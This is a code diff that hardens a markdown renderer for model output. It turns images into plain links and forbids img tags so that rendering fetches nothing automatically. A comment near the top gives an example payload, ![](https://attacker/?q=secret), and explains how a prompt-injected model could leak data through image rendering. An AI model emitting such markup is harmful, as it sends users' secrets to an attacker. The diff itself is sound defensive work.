@@ -5,10 +5,19 @@ import MarkdownIt from "markdown-it";
 import { stats } from "./stats.js";
 
 const SAFE_LINK = /^(https?:|mailto:|#|\/(?!\/)|\.{0,2}\/)/i;
-const SAFE_IMAGE = /^https?:/i;
 
 export function createMarkdown(window = globalThis.window) {
   const md = new MarkdownIt({ html: false, linkify: false, typographer: false, breaks: false });
+  // Images become links: a model's text must not make the browser fetch a URL by itself (a
+  // prompt-injected ![](https://attacker/?q=secret) would leak data on render). The user can
+  // still open the image by clicking.
+  md.renderer.rules.image = (tokens, idx, options, env, self) => {
+    const token = tokens[idx];
+    const src = token.attrGet("src") || "";
+    const alt = self.renderInlineAsText(token.children || [], options, env) || src;
+    const escape = md.utils.escapeHtml;
+    return `<a class="dk-image" href="${escape(src)}">🖼 ${escape(alt)}</a>`;
+  };
   const purify = createDOMPurify(window);
   purify.addHook("afterSanitizeAttributes", (node) => {
     if (node.nodeName === "A") {
@@ -16,15 +25,10 @@ export function createMarkdown(window = globalThis.window) {
       if (href && !SAFE_LINK.test(href)) node.removeAttribute("href");
       node.setAttribute("target", "_blank");
       node.setAttribute("rel", "noopener noreferrer");
-    } else if (node.nodeName === "IMG") {
-      const src = (node.getAttribute("src") || "").trim();
-      if (!SAFE_IMAGE.test(src)) node.removeAttribute("src");
-      node.setAttribute("referrerpolicy", "no-referrer");
-      node.setAttribute("loading", "lazy");
     }
   });
   const options = {
-    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe"],
+    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe", "img"],
     FORBID_ATTR: ["style"],
     ADD_ATTR: ["target"],
   };
